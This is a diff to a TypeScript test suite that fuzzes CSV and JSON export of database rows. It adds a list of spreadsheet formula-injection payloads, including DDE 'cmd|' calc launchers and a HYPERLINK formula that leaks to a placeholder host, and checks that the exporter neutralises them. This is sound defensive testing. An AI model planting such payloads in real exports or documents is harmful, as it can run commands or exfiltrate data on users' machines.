@@ -7,7 +7,15 @@ import { describe, it } from 'node:test';
 import { openDatabase } from '../db/database.js';
 import { MIGRATIONS } from '../db/migrations.js';
 import { EXPORT_COLUMNS } from './export.js';
-import { csvLine, csvRecord, IsoTimes, jsonKeys, jsonLine } from './export-lines.js';
+import {
+  csvField,
+  csvLine,
+  csvRecord,
+  FORMULA_START,
+  IsoTimes,
+  jsonKeys,
+  jsonLine,
+} from './export-lines.js';
 import { decimalText, ExportLines, exportSelect } from './export-sql.js';
 import { toTurnRow, TURN_COLUMNS, type TurnDbRow } from './turn-rows.js';
 import { prng } from '../testing/prng.js';
@@ -51,6 +59,19 @@ const TEXTS = [
   'lone \ud800 surrogate',
   '\u2028 separators \u2029',
 ];
+/** Cells a spreadsheet would run, and control characters: neutralised in CSV (picked less often). */
+const HOSTILE_TEXTS = [
+  '=HYPERLINK("http://x.example/?leak","click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '-12',
+  'del \u007f and c1 \u0085',
+  'mid=dle+and-at@',
+];
 const TIMES = [
   0,
   1,
@@ -68,6 +89,7 @@ const NUMBERS = [0, 7, 123_456_789, 0.1 + 0.2, 1e-7, 1e21, 2 ** 53, -0, Infinity
 
 function randomRow(rand: () => number): unknown[] {
   const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)]!;
+  const text = (): string => (rand() < 0.03 ? pick(HOSTILE_TEXTS) : pick(TEXTS));
   const maybe = <T>(value: T): T | null => (rand() < 0.3 ? null : value);
   const time = (): number =>
     rand() < 0.2 ? pick(TIMES) : 1_770_000_000_000 + Math.floor(rand() * 400 * 86_400_000);
@@ -75,10 +97,10 @@ function randomRow(rand: () => number): unknown[] {
     if (key === 'started_at_ms' || key === 'ended_at_ms') return time();
     if (key === 'is_error') return rand() < 0.5 ? 1 : 0;
     if (key === 'cost_usd') return maybe(rand() < 0.3 ? pick(NUMBERS) : rand() / 7);
-    if (key === 'error_kind' || key === 'error_message') return maybe(pick(TEXTS));
+    if (key === 'error_kind' || key === 'error_message') return maybe(text());
     if (key === 'reasoning_tokens') return maybe(Math.floor(rand() * 10_000));
-    if (typeof key === 'string' && key.endsWith('_id')) return pick(TEXTS);
-    if (['agent', 'model', 'models', 'app', 'permission_mode'].includes(key)) return pick(TEXTS);
+    if (typeof key === 'string' && key.endsWith('_id')) return text();
+    if (['agent', 'model', 'models', 'app', 'permission_mode'].includes(key)) return text();
     return rand() < 0.1 ? pick(NUMBERS) : Math.floor(rand() * 1e6);
   });
 }
@@ -116,11 +138,17 @@ function writtenByJs(values: unknown[], format: 'csv' | 'json'): boolean {
     if (INTEGERS.has(key))
       return !Number.isSafeInteger(value) && !(key === 'reasoning_tokens' && value === null);
     if (key === 'cost_usd') return value !== null && typeof value !== 'number';
+    if (format !== 'csv' || typeof value !== 'string') return false;
+    if (key === 'error_message')
+      return (
+        FORMULA_START.test(value) ||
+        /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/.test(value)
+      );
     return (
-      format === 'csv' &&
       SHORT_TEXTS.has(key) &&
-      typeof value === 'string' &&
-      /[",\r\n]/.test(value)
+      (/[",\r\n]/.test(value) ||
+        FORMULA_START.test(value) ||
+        /[\u0000-\u001F\u007F-\u009F]/.test(value))
     );
   });
 }
@@ -162,6 +190,55 @@ describe('export lines from raw rows', () => {
       values.push(Math.round(rand() * 1e6) * 3e-6 + Math.round(rand() * 1e5) * 1.5e-5); // a sum
     }
     for (const value of values) assert.equal(decimalText(value), String(value), `${value}`);
+  });
+
+  it('CSV: a text a spreadsheet would run is quoted after a single quote; numbers stay numbers', () => {
+    const cases: [unknown, string][] = [
+      ['=HYPERLINK("http://x.example","y")', `"'=HYPERLINK(""http://x.example"",""y"")"`],
+      ['+cmd|x', `"'+cmd|x"`],
+      ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
+      ['@SUM(A1)', `"'@SUM(A1)"`],
+      ['\t=1', `"'\t=1"`],
+      ['\r=1', `"'\r=1"`],
+      ['＝1+1', `"'＝1+1"`],
+      ['-5', `"'-5"`],
+      [-5, '-5'],
+      [-0.25, '-0.25'],
+      ['a=b', 'a=b'],
+      ['nul\u0000bell\u0007del\u007fc1\u0085', 'nul\ufffdbell\ufffddel\ufffdc1\ufffd'],
+      ['\u0000=1', '\ufffd=1'],
+      ['two\nlines', '"two\nlines"'],
+    ];
+    for (const [value, expected] of cases)
+      assert.equal(csvField(value), expected, JSON.stringify(value));
+    const row = [
+      7,
+      '=1+1',
+      's',
+      'claude',
+      '@m',
+      'm',
+      '+app',
+      'write',
+      0,
+      1,
+      -3,
+      1,
+      0,
+      0,
+      0,
+      0,
+      -0.5,
+      1,
+      '-k',
+      '=err',
+      0,
+      null,
+    ];
+    assert.equal(
+      csvLine(row, new IsoTimes()),
+      `7,"'=1+1",s,claude,"'@m",m,"'+app",write,1970-01-01T00:00:00.000Z,1970-01-01T00:00:00.001Z,-3,1,0,0,0,0,-0.5,true,"'-k","'=err",0,\r\n`,
+    );
   });
 
   it('csvLine and jsonLine are byte for byte the text built from the row object', () => {
